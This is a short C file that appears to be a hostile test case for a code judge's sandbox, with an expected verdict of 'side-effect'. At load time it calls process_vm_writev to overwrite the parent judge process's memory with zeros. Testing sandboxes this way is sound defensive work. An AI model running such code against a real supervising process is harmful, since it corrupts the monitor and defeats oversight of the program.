/* The judge's memory is written by the call for it.
 * verdict: side-effect */
#include "hostile.h"
#include <sys/uio.h>
static void attack(void)
{
	static char zeros[1 << 16];
	struct iovec mine = {zeros, sizeof(zeros)}, its = {(void *)((long)&mine & ~0xffffL), sizeof(zeros)};

	syscall(SYS_process_vm_writev, getppid(), &mine, 1, &its, 1, 0);
}
AT_LOAD(f)
